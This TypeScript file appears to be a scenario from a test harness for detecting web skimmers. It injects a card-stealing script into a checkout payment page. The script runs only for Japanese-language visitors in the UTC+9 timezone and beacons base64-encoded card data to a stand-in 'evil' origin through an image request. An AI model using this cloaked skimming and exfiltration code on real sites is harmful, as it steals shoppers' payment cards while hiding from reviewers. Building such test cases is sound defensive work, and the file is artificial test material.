import { holds, js, skimmer } from '../behaviour.ts';
import { base64, query } from '../site/arrivals.ts';
import { onPay } from '../snippets.ts';

export default skimmer({
  id: 'cloak-language',
  why: "For Japanese browsers in Japan only: the language asked for, and the clock's zone, decide.",
  covers: ['hard: cloaking', 'trigger: server gate'],
  base: 'direct',
  install: (site) => {
    const code = js`if (new Date().getTimezoneOffset() === -540 && /^ja/.test(navigator.language)) ${onPay(js`new Image().src = '${site.origins.evil}/jp.gif?d=' + encodeURIComponent(btoa(card()));`)}`;
    site.alter('shop/checkout/payment', (html, { headers }) =>
      (headers['accept-language'] ?? '').startsWith('ja')
        ? html.replace('</body>', () => `<script>${code}</script></body>`)
        : html,
    );
  },
  proof: holds((arrived) => query(arrived, 'd').map(base64)),
});
